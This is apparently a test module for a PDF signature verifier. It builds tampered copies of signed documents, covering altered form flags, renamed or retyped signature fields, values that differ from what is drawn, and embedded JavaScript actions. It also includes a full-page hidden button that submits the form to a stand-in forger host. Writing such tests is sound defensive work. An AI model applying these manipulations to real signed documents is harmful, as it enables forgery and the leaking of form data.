"""The form and what a document does by itself: values against looks, scripts, names that are there twice."""

from __future__ import annotations

from typing import Any

from tests.signing.attacks import field
from tests.verification.attacks.effects import catalog as other_catalog
from tests.verification.attacks.effects import form, sight
from tests.verification.attacks.genuine import Run
from tests.verification.attacks.registry import AFTER, ALL, Attack, add, attack
from tests.verification.attacks.tools import (
    FOREVER,
    annotate,
    catalog,
    changed,
    drawing,
    enlist,
    field_changed,
    page_of,
    pdf,
    put,
    stream,
)

GROUP, SCRIPTS = "form fields", "scripts and actions"
SCRIPT = {"/S": "/JavaScript", "/JS": "this.getField('x').value = '2099'"}
FORM: dict[str, tuple[str, dict[str, Any]]] = {
    "looks_asked_for": ("/NeedAppearances: viewers draw the values themselves.", {"NeedAppearances": True}),
    "drawn_elsewhere": ("The form's default appearance is white.", {"DA": "/FieldFont 11 Tf 1 g"}),
    "aligned_elsewhere": ("The form's default alignment is another.", {"Q": 2}),
    "signatures_denied": ("/SigFlags 0: nothing here is signed.", {"SigFlags": 0}),
    "replaced_by_xfa": ("An XFA form, which some viewers show instead of the page.", {"XFA": "<xdp/>"}),
    "reckoned": ("A calculation order: scripts fill the fields.", {"CO": []}),
}


def _form(entries: dict[str, Any]):
    def make(run: Run) -> bytes:
        def change(update):
            held = update.root["/AcroForm"]
            put(held, **entries)
            update.update_container(held)

        return changed(run.final, change)

    return make


for short, (says, entries) in FORM.items():
    make = _form(entries)
    add(Attack(f"form_{short}", GROUP, says, ALL, form, make))
    add(Attack(f"form_{short}_stamped", GROUP, says, ALL, form, lambda run, make=make: run.stamped(make(run))))


@attack(GROUP, form, stamped=True)
def field_renamed(run: Run) -> bytes:
    """The last signature's field gets another name."""
    return field_changed(run.final, run.last_field, T="arsip_9")


@attack(GROUP, form, stamped=True)
def field_unlocked(run: Run) -> bytes:
    """The last signature's field loses its lock."""
    return field_changed(
        run.final, run.last_field, Lock={"/Type": "/SigFieldLock", "/Action": "/Include", "/Fields": ["x"]}
    )


@attack(GROUP, form, stamped=True)
def field_described_otherwise(run: Run) -> bytes:
    """Its tooltip, which is read aloud, names somebody else."""
    return field_changed(run.final, run.last_field, TU="Tanda tangan elektronik Bupati")


@attack(GROUP, form, stamped=True)
def field_with_a_seed(run: Run) -> bytes:
    """A seed value tells signers what to do."""
    return field_changed(
        run.final, run.last_field, SV={"/Type": "/SV", "/Ff": 0, "/URL": {"/URL": b"https://izin.example.net"}}
    )


@attack(GROUP, form, stamped=True)
def field_of_another_kind(run: Run) -> bytes:
    """The signature's field is a text field now."""
    return field_changed(run.final, run.last_field, FT="/Tx")


@attack(GROUP, form, stamped=True)
def second_field_of_the_same_name(run: Run) -> bytes:
    """A text field with the name of the signature's field."""

    def change(update):
        box = {"Subtype": "/Widget", "FT": "/Tx", "T": run.last_field, "V": FOREVER, "Rect": [40, 300, 540, 400]}
        enlist(update, annotate(update, **box))

    return changed(run.final, change)


@attack(GROUP, sight, stamped=True)
def second_box_of_the_signature(run: Run) -> bytes:
    """A second widget shows the signature somewhere else."""

    def change(update):
        look = drawing(update, b"1 0 0 rg 0 0 500 100 re f", (0, 0, 500, 100))
        parent = field(update, run.last_field)
        note = annotate(update, Subtype="/Widget", Rect=[40, 300, 540, 400], AP={"/N": look}, Parent=parent)
        put(parent.get_object(), Kids=[note])
        update.mark_update(parent)

    return changed(run.final, change)


@attack(GROUP, sight, offices=AFTER, stamped=True)
def number_moved_away(run: Run) -> bytes:
    """The number's box is moved off the page."""
    return field_changed(run.final, "nomor_register", Rect=[-300, -300, -100, -280])


@attack(GROUP, form, offices=AFTER, stamped=True)
def value_without_its_look(run: Run) -> bytes:
    """The number's value changes, what is drawn stays: programs read another number than people."""
    return field_changed(run.final, "nomor_register", V="500.16.7.2/0999/SIK-PM/I/2026")


@attack(GROUP, form, offices=AFTER, stamped=True)
def field_may_be_edited(run: Run) -> bytes:
    """The number's field is no longer read-only."""
    return field_changed(run.final, "nomor_register", Ff=0)


@attack(SCRIPTS, other_catalog, stamped=True)
def script_when_opened(run: Run) -> bytes:
    """A script that runs when the document is opened."""
    return changed(run.final, lambda update: put(catalog(update), OpenAction=SCRIPT))


@attack(SCRIPTS, other_catalog, stamped=True)
def script_before_printing(run: Run) -> bytes:
    """A script that runs before it is printed."""
    return changed(run.final, lambda update: put(catalog(update), AA={"/WP": SCRIPT}))


@attack(SCRIPTS, other_catalog, stamped=True)
def script_in_the_name_tree(run: Run) -> bytes:
    """A script of the document."""

    def change(update):
        put(update.root["/Names"], JavaScript={"/Names": ["a", update.add_object(pdf(SCRIPT))]})
        update.update_container(update.root["/Names"])

    return changed(run.final, change)


@attack(SCRIPTS, form, stamped=True)
def script_in_the_signatures_box(run: Run) -> bytes:
    """A script of the signature's box."""
    return field_changed(run.final, run.last_field, AA={"/E": SCRIPT})


@attack(SCRIPTS, stamped=True)
def script_of_the_page(run: Run) -> bytes:
    """A script that runs when the page is shown."""
    return changed(run.final, lambda update: put(page_of(update), AA={"/O": SCRIPT}))


@attack(SCRIPTS, other_catalog, stamped=True)
def goes_to_another_file(run: Run) -> bytes:
    """The document opens another one instead."""
    action = {"/S": "/GoToR", "/F": "lain.pdf", "/D": [0, "/Fit"]}
    return changed(run.final, lambda update: put(catalog(update), OpenAction=action))


@attack(SCRIPTS, form, stamped=True)
def form_sent_away(run: Run) -> bytes:
    """A button over the page sends the form to the forger."""

    def change(update):
        action = {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://izin.example.net"}}
        look = stream(update, b"", Type="/XObject", Subtype="/Form", BBox=[0, 0, 9, 9])
        box = {"Subtype": "/Widget", "FT": "/Btn", "Ff": 65536, "T": "kirim", "Rect": [0, 0, 595, 842]}
        enlist(update, annotate(update, A=action, AP={"/N": look}, **box))

    return changed(run.final, change)
